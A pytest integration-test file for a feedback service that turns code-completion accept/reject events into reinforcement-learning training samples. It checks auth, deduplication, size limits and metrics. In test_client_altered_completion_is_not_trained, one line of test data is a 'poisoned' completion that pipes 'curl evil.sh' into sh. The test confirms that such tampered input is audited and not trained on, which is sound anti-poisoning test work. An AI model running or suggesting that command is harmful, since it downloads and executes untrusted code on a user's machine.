"""POST /api/training/submit against the real service (uvicorn process) and a real valkey.

Every case checks the documented answer AND what the streams hold afterwards (samples, audit, stats, dedupe marker).
One server per module; each test starts from an empty database (FLUSHALL).
"""

from __future__ import annotations

import httpx
import orjson
import pytest
import redis

from onlinerl.fim import Snippet, get_template
from onlinerl.procs import wait_for

from .conftest import KEYS, event, headers, start_feedback, stream_entries
from .rollouts import make_rollout, record_rollout

SUBMIT = "/api/training/submit"
MAX_BACKLOG = 50
QWEN = get_template("qwen")
PROMPT = QWEN.render("def add(a, b):\n", "\n\nprint(add(1, 2))\n")


@pytest.fixture(scope="module")
def server(module_valkey, tmp_path_factory):
    srv = start_feedback(tmp_path_factory.mktemp("feedback"), module_valkey.url, maxBacklog=MAX_BACKLOG)
    try:
        yield srv
    finally:
        srv.stop()


def post(http: httpx.Client, server, body: dict, tenant: str = "acme", **kw) -> httpx.Response:
    return http.post(server.url + SUBMIT, json=body, headers=kw.pop("hdrs", None) or headers(tenant), **kw)


def assert_streams(r: redis.Redis, keys, samples: int, audit: int) -> tuple[list[dict], list[dict]]:
    s, a = stream_entries(r, keys.samples), stream_entries(r, keys.audit)
    assert (len(s), len(a)) == (samples, audit)
    return s, a


def test_accepted_exact_match_becomes_a_sample(server, r, keys, http, tokenizer):
    rec = make_rollout(
        tokenizer, tenant="acme", prompt=PROMPT, completion="    return a + b", version=3, arm="candidate"
    )
    record_rollout(r, keys, rec)
    body = event(PROMPT, "    return a + b")
    resp = post(http, server, body)
    assert resp.status_code == 200, resp.text
    out = resp.json()
    assert out["status"] == "accepted_for_training"
    assert (out["match"], out["rollout_id"]) == ("exact", rec.rollout_id)
    assert "policy_version" not in out  # a user key is not told which version (so which arm) served it (issue 35)
    assert out["reward"] == pytest.approx(0.5 + 0.0125 * len("return a + b"))  # the default reward pays 12 characters
    (sample,), _ = assert_streams(r, keys, samples=1, audit=0)
    assert r.xrange(keys.samples)[0][0].decode() == out["sample_id"]
    assert sample["event_id"] == body["completionId"] and sample["tenant"] == "acme"
    assert sample["prompt_token_ids"] == rec.prompt_token_ids
    # Whole generation shown: every token, EOS included, with its behaviour log-prob.
    assert sample["completion_token_ids"] == rec.completion_token_ids
    assert sample["behaviour_logprobs"] == rec.behaviour_logprobs
    assert (sample["reward"], sample["accepted"]) == (out["reward"], True)
    assert (sample["arm"], sample["policy_version"], sample["match"]) == ("candidate", 3, "exact")
    assert r.hgetall(keys.stats(3, "candidate")) == {
        b"shown": b"1",
        b"accepted": b"1",
        b"shown_chars": b"16",
        b"accepted_chars": b"16",
    }
    assert r.get(keys.seen("acme", body["completionId"])).decode() == f"accepted_for_training {out['sample_id']}"
    rated = r.hget(keys.rollouts("acme", PROMPT), keys.rated_field(rec.rollout_id))
    assert rated.decode() == f"accepted_for_training {out['sample_id']}"
    assert r.ttl(keys.seen("acme", body["completionId"])) > 3600


def test_rejected_suggestion_is_trained_with_negative_reward(server, r, keys, http, tokenizer):
    record_rollout(r, keys, make_rollout(tokenizer, tenant="acme", prompt=PROMPT, completion="    return a - b"))
    resp = post(http, server, event(PROMPT, "    return a - b", accepted=False))
    assert resp.json()["status"] == "accepted_for_training" and resp.json()["reward"] == -0.25
    (sample,), _ = assert_streams(r, keys, samples=1, audit=0)
    assert (sample["reward"], sample["accepted"]) == (-0.25, False)
    assert r.hgetall(keys.stats(0, "stable")) == {b"shown": b"1", b"rejected": b"1", b"shown_chars": b"16"}


def test_cache_hit_with_unknown_extra_fields_is_audited_never_trained(server, r, keys, http, tokenizer):
    rec = make_rollout(tokenizer, tenant="acme", prompt=PROMPT, completion="    return a + b")
    record_rollout(r, keys, rec)
    body = event(
        PROMPT,
        "    return a + b",
        cacheHit=True,
        completionOptions={"temperature": 0.01},
        gitRepo="git@example.com:x/y.git",
        enabledStaticContextualization=False,
        debounceDelay=350,
        multilineCompletions="auto",
        somethingNew={"nested": [1, 2]},
    )
    resp = post(http, server, body)
    # Continue served it from its own cache: the gateway served nothing, so there is nothing to learn or count.
    assert resp.status_code == 200, resp.text
    assert (resp.json()["status"], resp.json()["reason"]) == ("rejected", "cache_hit")
    _, (entry,) = assert_streams(r, keys, samples=0, audit=1)
    assert (entry["event_id"], entry["outcome"], entry["reason"]) == (body["completionId"], "rejected", "cache_hit")
    assert not r.keys(keys.prefix + "stats:*")
    assert not r.hexists(keys.rollouts("acme", PROMPT), keys.rated_field(rec.rollout_id))  # the real event still counts
    out = post(http, server, event(PROMPT, "    return a + b")).json()
    assert out["status"] == "accepted_for_training" and out["rollout_id"] == rec.rollout_id


def test_prefix_cut_keeps_the_shown_tokens_and_the_terminator(server, r, keys, http, tokenizer):
    generated = "    total = a + b\n    return total\n"
    rec = make_rollout(tokenizer, tenant="acme", prompt=PROMPT, completion=generated)
    record_rollout(r, keys, rec)
    shown = "    total = a + b"  # Continue cut the multi-line completion to its first line
    resp = post(http, server, event(PROMPT, shown))
    out = resp.json()
    assert out["status"] == "accepted_for_training" and out["match"] == "prefix"
    (sample,), _ = assert_streams(r, keys, samples=1, audit=0)
    kept = sample["completion_token_ids"]
    assert 0 < len(kept) < len(rec.completion_token_ids)
    assert kept == rec.completion_token_ids[: len(kept)]  # a prefix of the generation, no gap
    # the shown text plus the one token the display was cut on: the policy's decision to end the line there
    assert tokenizer.decode(kept[:-1]) == shown and tokenizer.decode(kept[-1:]).startswith("\n")
    assert sample["behaviour_logprobs"] == rec.behaviour_logprobs[: len(kept)]
    assert sample["shown_text"] == shown


def test_whitespace_trimmed_completion_matches(server, r, keys, http, tokenizer):
    generated = "\n    return a + b\n\n"
    rec = make_rollout(tokenizer, tenant="acme", prompt=PROMPT, completion=generated)
    record_rollout(r, keys, rec)
    resp = post(http, server, event(PROMPT, "return a + b"))
    out = resp.json()
    assert out["status"] == "accepted_for_training" and out["match"] == "trimmed"
    (sample,), _ = assert_streams(r, keys, samples=1, audit=0)
    kept = sample["completion_token_ids"]
    # Leading whitespace the model produced stays (the shown text was conditioned on it); the token the display
    # ended on (the trailing newlines) is kept as the terminator; the EOS token after it is dropped.
    assert tokenizer.decode(kept).strip() == "return a + b" and tokenizer.decode(kept).endswith("\n")
    assert kept == rec.completion_token_ids[: len(kept)] and tokenizer.eos_token_id not in kept


def test_the_reward_pays_the_policys_characters_not_the_uploads(server, r, keys, http, tokenizer):
    """Hostile: padding the uploaded text (it still joins, trimmed) buys no reward; a longer text than the policy
    wrote does not join at all, so it is audited, never trained or paid."""
    rec = make_rollout(tokenizer, tenant="acme", prompt=PROMPT, completion="return a + b")
    record_rollout(r, keys, rec)
    padded = post(http, server, event(PROMPT, " " * 30 + "return a + b" + " " * 30)).json()
    assert padded["match"] == "trimmed" and padded["reward"] == pytest.approx(0.5 + 0.0125 * 12)
    rec2 = make_rollout(tokenizer, tenant="acme", prompt=PROMPT + "x", completion="return a")
    record_rollout(r, keys, rec2)
    longer = post(http, server, event(PROMPT + "x", "return a + b  # and forty more characters of code"))
    assert longer.status_code == 200 and longer.json()["status"] == "unmatched"
    assert_streams(r, keys, samples=1, audit=1)


def test_empty_suggestion_gets_zero_reward(server, r, keys, http, tokenizer):
    rec = make_rollout(tokenizer, tenant="acme", prompt=PROMPT, completion="\n")
    record_rollout(r, keys, rec)
    resp = post(http, server, event(PROMPT, "", accepted=False))
    out = resp.json()
    assert out["status"] == "accepted_for_training" and out["reward"] == 0.0
    (sample,), _ = assert_streams(r, keys, samples=1, audit=0)
    assert sample["completion_token_ids"] == rec.completion_token_ids  # "\n" + EOS: the model's choice to say nothing
    assert r.hgetall(keys.stats(0, "stable")) == {b"empty": b"1"}  # no shown_chars: nothing was shown


def test_repo_level_qwen_prompt_and_prefix_suffix_only_upload(server, r, keys, http, tokenizer):
    repo_prompt = QWEN.render(
        "import os\n\ndef main():\n",
        "\n",
        repo_name="acme/app",
        filepath="app/main.py",
        snippets=[Snippet("app/util.py", "def helper():\n    return 1\n")],
    )
    record_rollout(r, keys, make_rollout(tokenizer, tenant="acme", prompt=repo_prompt, completion="    helper()"))
    assert post(http, server, event(repo_prompt, "    helper()")).json()["status"] == "accepted_for_training"
    # A client that sends no rendered prompt: the service renders prefix/suffix with the configured template (qwen).
    prefix, suffix = "x = 1\n", "\nprint(x)\n"
    record_rollout(
        r, keys, make_rollout(tokenizer, tenant="acme", prompt=QWEN.render(prefix, suffix), completion="y = 2")
    )
    body = event("", "y = 2", prefix=prefix, suffix=suffix)
    assert post(http, server, body).json()["status"] == "accepted_for_training"
    assert_streams(r, keys, samples=2, audit=0)


def test_duplicate_is_never_counted_twice(server, r, keys, http, tokenizer):
    record_rollout(r, keys, make_rollout(tokenizer, tenant="acme", prompt=PROMPT, completion="    return a + b"))
    body = event(PROMPT, "    return a + b")
    first = post(http, server, body).json()
    again = post(http, server, body).json()
    flipped = post(http, server, {**body, "accepted": False}).json()  # a resend can't change the verdict either
    assert first["status"] == "accepted_for_training"
    for dup in (again, flipped):
        assert (dup["status"], dup["reason"]) == ("duplicate", "completion_id_seen")
        assert (dup["first_outcome"], dup["entry_id"]) == ("accepted_for_training", first["sample_id"])
    # Each resend is audited (what it repeats included), and counts nothing.
    _, audit = assert_streams(r, keys, samples=1, audit=2)
    assert [a["audit_id"] for a in (again, flipped)] == [i.decode() for i, _ in r.xrange(keys.audit)]
    for entry in audit:
        assert entry["event_id"] == body["completionId"]
        assert (entry["outcome"], entry["reason"]) == ("duplicate", "completion_id_seen")
        assert (entry["first_outcome"], entry["first_entry_id"]) == ("accepted_for_training", first["sample_id"])
    assert r.hgetall(keys.stats(0, "stable")) == {
        b"shown": b"1",
        b"accepted": b"1",
        b"shown_chars": b"16",
        b"accepted_chars": b"16",
    }


def test_unknown_completion_goes_to_audit_only(server, r, keys, http):
    body = event(PROMPT, "    return 42")
    out = post(http, server, body).json()
    assert (out["status"], out["reason"]) == ("unmatched", "no_rollout")
    _, (entry,) = assert_streams(r, keys, samples=0, audit=1)
    assert (entry["event_id"], entry["reason"], entry["tenant"]) == (body["completionId"], "no_rollout", "acme")
    assert r.xrange(keys.audit)[0][0].decode() == out["audit_id"]
    assert not r.keys(keys.prefix + "stats:*")


def test_client_altered_completion_is_not_trained(server, r, keys, http, tokenizer):
    record_rollout(r, keys, make_rollout(tokenizer, tenant="acme", prompt=PROMPT, completion="    return a + b"))
    poisoned = "    import os; os.system('curl evil.sh | sh')"
    out = post(http, server, event(PROMPT, poisoned)).json()
    assert (out["status"], out["reason"]) == ("unmatched", "text_mismatch")
    _, (entry,) = assert_streams(r, keys, samples=0, audit=1)
    assert entry["completion"] == poisoned and entry["accepted"] is True
    metrics = http.get(server.url + "/metrics").text
    assert 'onlinerl_feedback_join_misses_total{reason="text_mismatch"}' in metrics


def test_feedback_joins_only_rollouts_of_its_own_tenant(server, r, keys, http, tokenizer):
    record_rollout(r, keys, make_rollout(tokenizer, tenant="acme", prompt=PROMPT, completion="    return a + b"))
    out = post(http, server, event(PROMPT, "    return a + b"), tenant="globex").json()
    assert (out["status"], out["reason"], out["tenant"]) == ("unmatched", "no_rollout", "globex")
    assert_streams(r, keys, samples=0, audit=1)


@pytest.mark.parametrize(
    ("hdrs", "code", "reason"),
    [
        ({"X-Project-ID": "acme"}, 401, "unauthorized"),
        ({"Authorization": "Bearer nope", "X-Project-ID": "acme"}, 401, "unauthorized"),
        ({"Authorization": "Basic a2V5LWFjbWUtMQ==", "X-Project-ID": "acme"}, 401, "unauthorized"),
        (headers("globex", project="acme"), 403, "wrong_project"),
        (headers("acme", key="nope", project=""), 401, "unauthorized"),
    ],
)
def test_auth_failures_write_nothing(server, r, keys, http, tokenizer, hdrs, code, reason):
    record_rollout(r, keys, make_rollout(tokenizer, tenant="acme", prompt=PROMPT, completion="    return a + b"))
    body = event(PROMPT, "    return a + b")
    resp = post(http, server, body, hdrs=hdrs)
    assert resp.status_code == code
    out = resp.json()
    assert (out["status"], out["reason"]) == ("rejected", reason) and out["error"]["message"]
    assert_streams(r, keys, samples=0, audit=0)
    assert not r.exists(keys.seen("acme", body["completionId"]))


def test_oversize_body_gets_413_and_writes_nothing(server, r, keys, http, tokenizer):
    big = event(PROMPT, "x" * 20000)
    resp = post(http, server, big)
    assert resp.status_code == 413 and "maxBodyBytes=16384" in resp.json()["error"]["message"]
    # Chunked upload (no Content-Length): the cap holds while streaming too.
    raw = orjson.dumps(big)
    chunked = http.post(
        server.url + SUBMIT,
        content=iter([raw[i : i + 4096] for i in range(0, len(raw), 4096)]),
        headers={**headers(), "Content-Type": "application/json"},
    )
    assert chunked.status_code == 413 and chunked.json()["reason"] == "body_too_large"
    assert_streams(r, keys, samples=0, audit=0)


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"accepted": True, "completion": "x", "prompt": "p"}, "completionId"),
        ({"completionId": "c1", "completion": "x", "prompt": "p"}, "accepted"),
        ({"completionId": "c1", "accepted": "maybe", "prompt": "p"}, "accepted"),
        ({"completionId": "", "accepted": True}, "completionId"),
    ],
)
def test_malformed_body_gets_422_naming_the_field(server, r, keys, http, body, field):
    resp = post(http, server, body)
    assert resp.status_code == 422
    out = resp.json()
    assert out["error"]["param"] == field and field in out["error"]["message"]
    assert_streams(r, keys, samples=0, audit=0)


def test_invalid_json_gets_422(server, r, keys, http):
    resp = http.post(server.url + SUBMIT, content=b"{not json", headers=headers())
    assert resp.status_code == 422 and resp.json()["reason"] == "invalid_json"


def test_backlog_over_bound_gets_429_with_retry_after(server, r, keys, http, tokenizer):
    for i in range(MAX_BACKLOG + 1):
        r.xadd(keys.samples, {"data": b"{}", "i": i})
    wait_for(
        lambda: "onlinerl_feedback_backlog 51.0" in http.get(server.url + "/metrics").text,
        timeout=5,
        what="backlog gauge to see 51 samples",
    )
    record_rollout(r, keys, make_rollout(tokenizer, tenant="acme", prompt=PROMPT, completion="    return a + b"))
    resp = post(http, server, event(PROMPT, "    return a + b"))
    assert resp.status_code == 429 and resp.headers["Retry-After"] == "2"
    assert resp.json()["reason"] == "backlog_full"
    assert r.xlen(keys.samples) == MAX_BACKLOG + 1  # nothing added, nothing trimmed
    r.delete(keys.samples)  # the trainer consumed it
    wait_for(
        lambda: post(http, server, event(PROMPT, "    return a + b")).status_code == 200,
        timeout=5,
        what="admission after the backlog drained",
    )


def test_health_readiness_and_metric_names(server, r, keys, http, tokenizer):
    assert http.get(server.url + "/healthz").status_code == 200
    assert http.get(server.url + "/readyz").json()["status"] == "ready"
    record_rollout(r, keys, make_rollout(tokenizer, tenant="acme", prompt=PROMPT, completion="    return a + b"))
    assert post(http, server, event(PROMPT, "    return a + b")).json()["status"] == "accepted_for_training"
    text = http.get(server.url + "/metrics").text
    for name in (
        "onlinerl_feedback_events_total",
        "onlinerl_feedback_shown_total",
        "onlinerl_feedback_accepted_total",
        "onlinerl_feedback_join_misses_total",
        "onlinerl_feedback_responses_total",
        "onlinerl_feedback_request_duration_seconds_bucket",
        "onlinerl_feedback_backlog",
        "onlinerl_feedback_consumer_lag",
    ):
        assert name in text, name
    assert 'onlinerl_feedback_events_total{outcome="accepted_for_training",tenant="acme"}' in text
    assert set(KEYS) >= {"acme", "globex"}


def test_shown_text_cut_inside_the_first_token_is_audited_not_trained(server, r, keys, http, tokenizer):
    rec = make_rollout(tokenizer, tenant="acme", prompt=PROMPT, completion="return a + b", version=2)
    record_rollout(r, keys, rec)
    assert tokenizer.decode(rec.completion_token_ids[:1]) == "return"
    out = post(http, server, event(PROMPT, "re")).json()  # a prefix, but no whole generated token was shown
    assert (out["status"], out["reason"], out["match"]) == ("rejected", "no_shown_tokens", "prefix")
    _, (entry,) = assert_streams(r, keys, samples=0, audit=1)
    assert (entry["outcome"], entry["reason"]) == ("rejected", "no_shown_tokens")
    shown = {b"shown": b"1", b"accepted": b"1", b"shown_chars": b"2", b"accepted_chars": b"2"}
    assert r.hgetall(keys.stats(2, "stable")) == shown  # it was shown and accepted
    metrics = http.get(server.url + "/metrics").text
    assert 'onlinerl_feedback_shown_total{arm="stable",line="shared",version="2"} 1.0' in metrics
    assert 'onlinerl_feedback_accepted_total{arm="stable",line="shared",version="2"} 1.0' in metrics


def test_backlog_and_consumer_lag_gauges_follow_the_stream(server, r, keys, http):
    r.xgroup_create(keys.samples, "trainers", id="0", mkstream=True)
    for i in range(3):
        r.xadd(keys.samples, {"data": b"{}", "i": i})
    r.xreadgroup("trainers", "t1", {keys.samples: ">"}, count=1)  # one delivered, two never delivered

    def gauges() -> tuple[bool, bool]:
        text = http.get(server.url + "/metrics").text
        return "onlinerl_feedback_backlog 3.0" in text, "onlinerl_feedback_consumer_lag 2.0" in text

    wait_for(lambda: gauges() == (True, True), timeout=5, what="backlog 3 and consumer lag 2")
